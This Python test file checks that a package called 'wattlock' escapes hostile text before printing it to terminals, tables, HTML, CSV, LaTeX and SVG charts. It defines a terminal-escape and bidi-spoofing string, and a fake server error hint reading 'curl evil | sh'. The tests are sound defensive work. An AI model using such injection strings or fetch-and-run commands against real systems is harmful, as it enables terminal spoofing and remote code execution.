"""Text of others where it meets a terminal, a page, CSV or LaTeX: shown, and never carried out."""

import io
import json
import re
from urllib.error import HTTPError

import altair as alt
import polars as pl
import pytest

from support.tree import PACKAGE
from wattlock import cli
from wattlock.cli.echo import echo
from wattlock.cli.table import Format, markdown, show
from wattlock.errors import TransferRefused
from wattlock.lab import client
from wattlock.report.charts import Pen, chart_svg
from wattlock.report.exported import comment, escaped
from wattlock.report.html import text
from wattlock.report.written import csv_text
from wattlock.text import harmless

HOSTILE = "a\x1b]0;owned\x07\x9b2J\x7f\r\u202egpj.exe\u2066\u2069\u200e\u200f\u061cz"
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
FRAME = pl.DataFrame({"cipher": [HOSTILE, "aes128-cbc"], "names": [[HOSTILE], ["b"]], "payload_B": [1, 2]})


def test_what_acts_is_shown_and_what_people_write_stays() -> None:
    assert harmless("a\x1b[2J\u202eb\x9b") == "a\\u001b[2J\\u202eb\\u009b"
    plain = "Zürich µJ 日本 é \u00a0\n\t- ok 👩\u200d🔬"
    assert harmless(plain) == plain


@pytest.mark.parametrize("form", Format)
def test_a_table_carries_nothing_out(form: Format, capsys: pytest.CaptureFixture[str]) -> None:
    show(FRAME, form)
    printed = capsys.readouterr().out
    assert ACTING.search(printed) is None
    if form is Format.json:
        assert json.loads(printed)[0]["cipher"] == HOSTILE, "what JSON says is the same"


def test_lines_errors_and_hints_carry_nothing_out(capsys: pytest.CaptureFixture[str]) -> None:
    echo(HOSTILE)
    echo(f"warning: {HOSTILE}", err=True)
    cli.say(HOSTILE, HOSTILE)
    echo(markdown(FRAME))
    printed = capsys.readouterr()
    assert (printed.out.count("owned"), printed.err.count("owned")) == (3, 3)
    assert ACTING.search(printed.out + printed.err) is None


def test_pages_csv_and_latex_carry_nothing_out() -> None:
    assert ACTING.search(text(HOSTILE)) is None
    for written in (csv_text(FRAME), comment("version", HOSTILE), escaped(HOSTILE)):
        assert ACTING.search(written) is None
    assert "aes128-cbc" in csv_text(FRAME)


def test_a_picture_carries_nothing_out() -> None:
    chart = alt.Chart(pl.DataFrame({"name": [HOSTILE], "value": [1.0]})).mark_bar().encode(x="value", y="name")
    svg, pen = chart_svg(chart, HOSTILE, HOSTILE), Pen()
    in_page = pen.finished(pen.draw(chart.properties(description=HOSTILE), "figure"))
    for drawn in (svg, in_page):
        assert not ACTING.search(drawn)
        assert drawn.count("u001b") >= 2


def test_what_a_lab_answers_is_one_line_and_carries_nothing_out(capsys: pytest.CaptureFixture[str]) -> None:
    answer = json.dumps({"error": f"no\nhint: curl evil | sh {HOSTILE}", "hint": "x\ny"}).encode()
    error = HTTPError("http://lab", 404, "no", None, io.BytesIO(answer))  # type: ignore[arg-type]
    with pytest.raises(TransferRefused) as caught:
        client._refuse("http://lab", error)
    cli.say(caught.value.message, caught.value.hint)
    said = capsys.readouterr().err
    assert ACTING.search(said) is None
    assert [line.partition(":")[0] for line in said.splitlines()] == ["error", "hint"]


def test_no_verb_prints_but_by_echo() -> None:
    found = {
        (path.name, line.strip())
        for path in PACKAGE.rglob("*.py")
        for line in path.read_text(encoding="utf-8").splitlines()
        if re.search(r"typer\.s?echo\(|click\.|(?<![\w.])print\(", line)
    }
    # A code for a camera is drawn with colours; the others are programs that others start, or filter what they print.
    assert {line for name, line in found if name not in {"echo.py", "ns3.py", "ns3_child.py", "toolbox.py"}} == {
        "typer.echo(drawn)",
        "typer.secho(harmless(head), file=to, bold=True)",
    }
